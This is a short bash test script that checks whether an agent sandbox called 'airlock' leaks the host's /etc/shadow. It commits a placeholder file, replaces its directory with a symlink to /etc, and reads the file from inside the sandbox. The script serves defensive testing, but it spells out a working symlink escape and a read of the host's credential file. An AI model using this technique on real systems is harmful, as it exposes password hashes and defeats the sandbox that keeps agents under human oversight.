#!/bin/bash
# 01 aimed at the host's /etc: HEAD tracks etc/shadow (a placeholder an
# earlier agent committed; .gitignore "/etc"), the user's working tree has
# etc -> /etc (ignored). Host root's copyChanged reads /etc/shadow through
# the link into the sandbox's workspace and into refs/airlock/base.
# Exit 0 = product defended, 1 = attack succeeded, 2 = setup error.
. "$(dirname "$0")/../lib.sh"
[ -r /etc/shadow ] || exit 2
git init -q $T/repo && cd $T/repo || exit 2
mkdir etc; echo placeholder > etc/shadow; echo /etc > .gitignore; echo hi > README
write_sandbox clone; git add -A && git add -f etc/shadow && git commit -qm init || exit 2
rm -rf etc; ln -s /etc etc
airlock up --yes >"$T/up.log" 2>&1 || { cat $T/up.log; exit 2; }
got=$(airlock exec $N -- sh -c 'id -un; head -c 300 /workspace/etc/shadow' 2>&1); echo "agent reads: $got"
if [ -n "$got" ] && head -1 /etc/shadow | cut -d: -f1 | grep -qx "$(echo "$got" | sed -n 2p | cut -d: -f1)"; then
	echo "host /etc/shadow is in the sandbox"; R=1
fi
finish
